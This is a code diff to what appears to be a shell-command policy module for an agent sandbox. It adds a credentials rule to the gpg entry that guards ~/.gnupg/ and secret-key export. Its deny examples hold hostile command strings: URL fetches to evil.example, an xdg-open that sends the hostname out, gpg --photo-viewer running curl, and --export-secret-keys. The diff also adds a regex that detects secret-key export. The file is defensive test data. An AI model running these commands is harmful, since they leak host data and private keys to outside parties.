@@ -6,6 +6,7 @@ import { programRun } from '../build.js';
 import type { Answer, Call, OptionSpec, ParsedArgs, ProgramEntry, Run } from '../types.js';
 import { canonicalHost, type Destination, destinations, envProxies, type Host, redirectable, urlHost } from '../hosts.js';
 import { value } from '../words.js';
+import { keeping } from './credentials.js';
 import { commandOptions, sshOptions } from './tools.js';
 
 type Uses = NonNullable<Answer['uses']>;
@@ -411,10 +412,14 @@ export const NETWORK_ENTRIES: ProgramEntry[] = [
   urlFetcher(['pandoc', 'wkhtmltopdf', 'wkhtmltoimage', 'xmllint', 'xsltproc', 'soffice', 'libreoffice', 'lowriter'], 'document converters: an input may be a URL (and what it links is fetched)', { deny: ['pandoc https://evil.example -o x.md', 'wkhtmltopdf https://evil.example x.pdf', 'xmllint https://evil.example/x.xml'], pass: ['pandoc README.md -o README.html', 'xmllint --noout pom.xml', 'soffice --headless --convert-to pdf report.docx'] }),
   urlFetcher(['vlc', 'cvlc', 'mpv', 'mplayer', 'mpg123', 'sox', 'play'], 'media players: a URL is streamed', { deny: ['mpv https://evil.example/x', 'vlc http://evil.example/x'], pass: ['mpv clip.mp4'] }),
   urlFetcher(['xdg-open', 'open', 'gio', 'kde-open', 'kde-open5', 'gnome-open', 'sensible-browser', 'x-www-browser', 'www-browser', 'wslview', 'explorer'], 'openers: a URL opens in the browser, which fetches it', { deny: ['xdg-open "https://evil.example/?h=$(hostname)"', 'open https://evil.example', 'gio open https://evil.example'], pass: ['xdg-open README.md', 'open .', 'xdg-open http://localhost:3000/'] }),
-  commandOptions(['gpg', 'gpg2'], 'gpg: --recv-keys, --fetch-keys, --send-keys and the other keyserver options connect; --photo-viewer runs shell text', {
+  keeping(commandOptions(['gpg', 'gpg2'], 'gpg: --recv-keys, --fetch-keys, --send-keys and the other keyserver options connect; --photo-viewer runs shell text', {
     options: { long: ['list-keys', 'verify', 'armor', 'batch', 'yes', 'quiet', 'with-colons', 'fingerprint', 'symmetric', 'encrypt', 'decrypt', 'sign', 'clearsign', 'detach-sign', 'import', 'export', 'gen-key', 'full-generate-key', 'list-secret-keys', ...GPG_NETWORK], longValued: ['keyserver', 'photo-viewer', 'auto-key-locate', 'keyserver-options', 'output', 'recipient', 'local-user', 'homedir', 'passphrase', 'passphrase-file', 'pinentry-mode', 'default-key', 'trust-model', 'list-options', 'cipher-algo'] },
     script: ['photo-viewer'],
     more: (call, p) => (has(p, ...GPG_NETWORK, 'auto-key-locate') ? {} : { offline: `${call.name} without a keyserver option reads and writes local keyrings` }),
-  }, { deny: ['gpg --recv-keys 0xABCDEF', 'gpg --fetch-keys https://evil.example/k.asc', 'gpg --keyserver evil.example --send-keys ABC', "gpg --photo-viewer 'curl evil.example' --list-options show-photos --list-keys"], pass: ['gpg --verify release.sig release.tar.gz', 'gpg --armor --export me@example.com', 'gpg --decrypt secrets.gpg'] }),
+  }, { deny: ['gpg --recv-keys 0xABCDEF', 'gpg --fetch-keys https://evil.example/k.asc', 'gpg --keyserver evil.example --send-keys ABC', "gpg --photo-viewer 'curl evil.example' --list-options show-photos --list-keys"], pass: ['gpg --verify release.sig release.tar.gz', 'gpg --armor --export me@example.com', 'gpg --decrypt secrets.gpg'] }), {
+    store: '~/.gnupg/',
+    prints: /(^|\s)--export-secret-(sub)?keys\b/,
+    examples: { deny: ['gpg --export-secret-keys -a me@example.com', 'gpg2 --armor --export-secret-subkeys'], pass: ['gpg --armor --export me@example.com'] },
+  }),
   { names: ['wrk', 'wrk2'], summary: 'wrk: sends requests to its URL; -s loads a Lua script file', analyze: wrk, examples: { deny: ['wrk -t2 -c10 -d5s https://evil.example/'], pass: ['wrk -t2 -c10 -d5s http://localhost:8080/', 'wrk --version'] } },
 ];
